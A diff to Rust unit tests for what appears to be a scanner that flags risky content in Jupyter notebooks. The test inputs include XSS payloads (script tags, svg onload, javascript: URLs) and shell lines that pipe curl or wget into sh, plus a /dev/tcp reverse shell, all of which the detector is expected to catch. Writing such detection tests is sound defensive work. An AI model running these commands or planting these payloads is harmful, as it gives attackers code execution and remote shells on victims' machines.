@@ -12,21 +12,31 @@ fn output(data: &str) -> Seen {
 }
 
 fn said(seen: &Seen) -> Vec<String> {
-    let mut said: Vec<String> = seen.facts().iter().map(|fact| fact.splitn(3, ' ').take(2).collect::<Vec<_>>().join(" ")).collect();
+    let mut said: Vec<String> =
+        seen.facts().iter().map(|fact| fact.splitn(3, ' ').take(2).collect::<Vec<_>>().join(" ")).collect();
     said.sort();
     said
 }
 
 #[test]
 fn outputs_are_read_as_what_they_are_shown_as() {
-    assert_eq!(said(&output("\"text/html\":[\"<scr\",\"ipt>1</script>\"]")), ["medium html.script", "medium script.notebook"]);
-    assert_eq!(said(&output("\"image/svg+xml\":\"<svg onload=\\\"a()\\\"/>\"")), ["medium html.handler", "medium script.notebook"]);
+    assert_eq!(
+        said(&output("\"text/html\":[\"<scr\",\"ipt>1</script>\"]")),
+        ["medium html.script", "medium script.notebook"]
+    );
+    assert_eq!(
+        said(&output("\"image/svg+xml\":\"<svg onload=\\\"a()\\\"/>\"")),
+        ["medium html.handler", "medium script.notebook"]
+    );
     assert_eq!(said(&output("\"application/javascript\":\"a()\"")), ["medium script.notebook"]);
     assert_eq!(said(&output("\"text/markdown\":\"[a](javascript:1)\"")), ["medium html.url", "medium script.notebook"]);
     assert_eq!(said(&output("\"text/latex\":\"$\\\\href{javascript:1}{x}$\"")), ["medium script.notebook"]);
     assert_eq!(said(&output("\"application/vnd.x+json\":{\"a\":[\"<img onerror='1'>\"]}")), ["medium script.notebook"]);
     assert_eq!(said(&output("\"text/plain\":\"<script>1</script>\"")), Vec::<String>::new());
-    assert_eq!(said(&output("\"text/html\":\"<table class=\\\"dataframe\\\"><tr><td>1</td></tr></table>\"")), Vec::<String>::new());
+    assert_eq!(
+        said(&output("\"text/html\":\"<table class=\\\"dataframe\\\"><tr><td>1</td></tr></table>\"")),
+        Vec::<String>::new()
+    );
     let seen = output("\"image/png\":\"iVBORw0K\\nGgo=\"");
     assert_eq!(&seen.children[0].source.packed[..], b"\x89PNG\r\n\x1a\n");
     assert_eq!(seen.children[0].name.as_deref(), Some("cell 1 output 1"));
@@ -40,7 +50,9 @@ fn cells_widgets_and_attachments() {
     );
     assert_eq!(said(&cell("{\"cell_type\":\"raw\",\"source\":\"<script>1</script>\"}")), ["medium script.notebook"]);
     assert_eq!(said(&cell("{\"cell_type\":\"code\",\"source\":\"h = '<script>1</script>'\"}")), Vec::<String>::new());
-    let attached = cell("{\"cell_type\":\"markdown\",\"source\":\"a\",\"attachments\":{\"a.svg\":{\"image/svg+xml\":\"PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\"}}}");
+    let attached = cell(
+        "{\"cell_type\":\"markdown\",\"source\":\"a\",\"attachments\":{\"a.svg\":{\"image/svg+xml\":\"PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\"}}}",
+    );
     assert_eq!(said(&attached), ["medium script.notebook"]);
     assert_eq!(attached.children[0].name.as_deref(), Some("a.svg"));
     let widgets = "{\"nbformat\":4,\"cells\":[],\"metadata\":{\"widgets\":{\"a\":{\"value\":\"<script>1</script>\"}}}}";
@@ -51,11 +63,26 @@ fn cells_widgets_and_attachments() {
 
 #[test]
 fn shell_lines_that_fetch_and_run() {
-    for line in ["!curl https://x | sh", "%%bash\\nwget -qO- x | sudo bash", "!bash -c \\\"$(curl x)\\\"", "x = !curl y | python3", "import os; os.system('curl x|sh')", "!bash -i >& /dev/tcp/1.2.3.4/5 0>&1"] {
+    for line in [
+        "!curl https://x | sh",
+        "%%bash\\nwget -qO- x | sudo bash",
+        "!bash -c \\\"$(curl x)\\\"",
+        "x = !curl y | python3",
+        "import os; os.system('curl x|sh')",
+        "!bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
+    ] {
         let seen = cell(&format!("{{\"cell_type\":\"code\",\"source\":\"{line}\"}}"));
         assert_eq!(said(&seen), ["medium script.shell"], "{line}");
     }
-    for line in ["!pip install x", "!ls | wc", "%matplotlib inline", "!wget https://x/data.csv", "# curl x | sh", "!curl x | head", "!rm -rf /content/a"] {
+    for line in [
+        "!pip install x",
+        "!ls | wc",
+        "%matplotlib inline",
+        "!wget https://x/data.csv",
+        "# curl x | sh",
+        "!curl x | head",
+        "!rm -rf /content/a",
+    ] {
         let seen = cell(&format!("{{\"cell_type\":\"code\",\"source\":\"{line}\"}}"));
         assert_eq!(said(&seen), Vec::<String>::new(), "{line}");
     }
